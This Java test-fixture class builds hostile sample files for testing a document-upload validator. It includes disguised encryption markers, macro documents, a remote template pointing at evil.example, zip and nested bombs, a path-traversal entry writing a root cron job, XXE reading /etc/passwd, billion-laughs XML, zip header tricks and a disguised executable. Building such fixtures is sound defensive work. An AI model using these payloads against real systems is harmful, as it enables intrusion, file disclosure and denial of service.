package vn.lienthong.engine.content;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Random;
import java.util.stream.Collectors;

import static vn.lienthong.engine.content.SampleFiles.ascii;
import static vn.lienthong.engine.content.SampleFiles.zip;

/** Files that try something. */
public final class HostileFiles {
    private static final int LOCAL = 0x04034b50;
    private static final int CENTRAL = 0x02014b50;

    private HostileFiles() {}

    public static byte[] cut(byte[] file, double part) {
        return Arrays.copyOf(file, (int) (file.length * part));
    }

    public static byte[] encryptedPdf() {
        return SampleFiles.pdf("/Encrypt 9 0 R");
    }

    /** The key is written so that a search for its name does not find it. */
    public static byte[] encryptedPdfInDisguise() {
        return SampleFiles.modernPdf("/E#6ecryp#74 9 0 R");
    }

    /** An office file with a password travels in the older compound file. */
    public static byte[] encryptedDocx() {
        var file = compound(8192);
        put(file, 1024, "EncryptionInfo".getBytes(StandardCharsets.UTF_16LE));
        put(file, 1152, "EncryptedPackage".getBytes(StandardCharsets.UTF_16LE));
        return file;
    }

    public static byte[] oldWordWithMacros() {
        var file = compound(8192);
        put(file, 1024, "_VBA_PROJECT".getBytes(StandardCharsets.UTF_16LE));
        return file;
    }

    public static byte[] compound(int size) {
        var file = new byte[size];
        ByteBuffer.wrap(file).putLong(0xD0CF11E0A1B11AE1L);
        return file;
    }

    public static byte[] docxWith(String part, byte[] bytes) {
        var parts = SampleFiles.docxParts();
        parts.put(part, bytes);
        return zip(parts);
    }

    public static byte[] macroDocx() {
        return docxWith("word/vbaProject.bin", new byte[]{1, 2, 3});
    }

    public static byte[] macroEnabledTypeOnly() {
        var type = "application/vnd.ms-word.document.macroEnabled.main+xml";
        return docxWith("[Content_Types].xml", SampleFiles.contentTypes(type, "word/document.xml"));
    }

    /** A document made from a template that lies there. */
    public static byte[] templateFrom(String target) {
        return docxWith("word/_rels/settings.xml.rels", ascii(templateRelationship(target)));
    }

    /** Written so that nobody who looks for its letters finds it. */
    public static byte[] templateInDisguise() {
        var disguised = templateRelationship("http://evil.example/t.dotm").replace('"', '\'')
                .replace("attachedTemplate", "attached&#84;emplate");
        return docxWith("word/_rels/other.xml.rels", ("\uFEFF" + disguised).getBytes(StandardCharsets.UTF_16BE));
    }

    private static String templateRelationship(String target) {
        return "<Relationships><Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
                + "relationships/attachedTemplate\" Target=\"" + target
                + "\" TargetMode=\"External\"/></Relationships>";
    }

    public static byte[] scriptedOdt() {
        return odtWith("Basic/Standard/Module1.xml", ascii("<script:module/>"));
    }

    /** What it says is no XML any more, and the list of parts tells why. */
    public static byte[] encryptedOdt() {
        var parts = SampleFiles.odtParts();
        parts.put("content.xml", new byte[]{7, 77, 1, -3, 0, 12, 60, 5});
        parts.remove("META-INF/manifest.xml");
        parts.put("META-INF/manifest.xml",
                ascii("<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>"));
        return zip(parts);
    }

    /** Full of quotes, as office programs write them. */
    public static byte[] longOdt() {
        var text = new Random(7).ints(60_000)
                .mapToObj(any -> "<b c=\"&quot;" + any + "&quot;\">&lt;" + any * 31 + "&gt;</b>")
                .collect(Collectors.joining("", "<a>", "</a>"));
        return odtWith("content.xml", ascii(text));
    }

    public static byte[] odtWith(String part, byte[] bytes) {
        var parts = SampleFiles.odtParts();
        parts.put(part, bytes);
        return zip(parts);
    }

    public static byte[] docxWithDoctype() {
        return docxWith("[Content_Types].xml", ascii("<!DOCTYPE Types [<!ENTITY a \"b\">]><Types/>"));
    }

    /** Nothing, a thousand times smaller than it is. */
    public static byte[] ratioBomb(int megabytes) {
        return docxWith("word/media/image1.bmp", new byte[megabytes << 20]);
    }

    public static byte[] nestedBomb(int levels) {
        var inner = zip(Map.of("seed.txt", ascii("boom")));
        for (int i = 0; i < levels; i++) inner = zip(Map.of("level" + i + ".zip", inner));
        return docxWith("word/embeddings/package.zip", inner);
    }

    public static byte[] manyEntries(int count) {
        Map<String, byte[]> parts = new LinkedHashMap<>(SampleFiles.docxParts());
        for (int i = 0; i < count; i++) parts.put("word/media/" + i, new byte[0]);
        return zip(parts);
    }

    public static byte[] pathTraversal() {
        return docxWith("word/../../../etc/cron.d/x", ascii("* * * * * root id"));
    }

    /** Two entries of the directory share the bytes of one. */
    public static byte[] overlappingParts() {
        var parts = SampleFiles.docxParts();
        parts.put("word/media/a.bin", new byte[50_000]);
        parts.put("word/media/b.bin", new byte[50_000]);
        var file = zip(parts);
        var numbers = little(file);
        var places = centralPlaces(numbers);
        int last = places[places.length - 1];
        numbers.putInt(last + 42, numbers.getInt(places[places.length - 2] + 42));
        return file;
    }

    /** The directory says ten bytes. */
    public static byte[] lyingSize() {
        var file = docxWith("word/media/a.bin", new byte[500_000]);
        var numbers = little(file);
        numbers.putInt(lastPlace(numbers) + 24, 10);
        return file;
    }

    /** A reader from front to back sees another name than one that starts from the directory. */
    public static byte[] twoNames() {
        var file = docxWith("word/media/harmless.txt", ascii("x"));
        put(file, lastPlace(little(file)) + 46, ascii("word/media/nastyass.txt"));
        return file;
    }

    public static byte[] flippedByte() {
        var file = docxWith("word/media/photo.raw", randomish(20_000));
        var numbers = little(file);
        file[numbers.getInt(lastPlace(numbers) + 42) + 5_000] ^= 0x55;
        return file;
    }

    public static byte[] encryptedZip() {
        var file = zip(Map.of("secret.txt", ascii("secret")));
        var numbers = little(file);
        numbers.putShort(6, (short) (numbers.getShort(6) | 1));
        int central = lastPlace(numbers);
        numbers.putShort(central + 8, (short) (numbers.getShort(central + 8) | 1));
        return file;
    }

    public static byte[] billionLaughs() {
        return ascii("<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\">]><l>&b;</l>");
    }

    public static byte[] externalEntity() {
        return ascii("<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><l>&a;</l>");
    }

    /** A few bytes that ask for four billion pixels. */
    public static byte[] hugePng() {
        var file = SampleFiles.image("png");
        ByteBuffer.wrap(file).putInt(16, 65_000).putInt(20, 65_000);
        return file;
    }

    public static byte[] windowsProgram() {
        var file = new byte[4096];
        put(file, 0, ascii("MZ"));
        file[60] = (byte) 0x80;
        put(file, 0x80, new byte[]{'P', 'E', 0, 0, 0x4c, 1});
        return file;
    }

    public static byte[] linuxProgram() {
        var file = new byte[4096];
        put(file, 0, new byte[]{0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0x3e, 0});
        return file;
    }

    public static byte[] zipWithProgram() {
        return zip(Map.of("hoa-don.pdf.exe", windowsProgram()));
    }

    private static byte[] randomish(int size) {
        var out = new ByteArrayOutputStream();
        for (int i = 0; out.size() < size; i++) out.writeBytes(ascii(Integer.toString(i * 7919, 36)));
        return out.toByteArray();
    }

    private static int lastPlace(ByteBuffer numbers) {
        var places = centralPlaces(numbers);
        return places[places.length - 1];
    }

    private static int[] centralPlaces(ByteBuffer numbers) {
        int end = numbers.capacity() - 22;
        var places = new int[numbers.getShort(end + 10)];
        int at = numbers.getInt(end + 16);
        for (int i = 0; i < places.length; i++) {
            if (numbers.getInt(at) != CENTRAL) throw new IllegalStateException("No directory entry at " + at);
            places[i] = at;
            at += 46 + numbers.getShort(at + 28) + numbers.getShort(at + 30) + numbers.getShort(at + 32);
        }
        return places;
    }

    private static ByteBuffer little(byte[] file) {
        var numbers = ByteBuffer.wrap(file).order(ByteOrder.LITTLE_ENDIAN);
        if (numbers.getInt(0) != LOCAL) throw new IllegalStateException("No archive");
        return numbers;
    }

    private static void put(byte[] file, int at, byte[] bytes) {
        System.arraycopy(bytes, 0, file, at, bytes.length);
    }
}
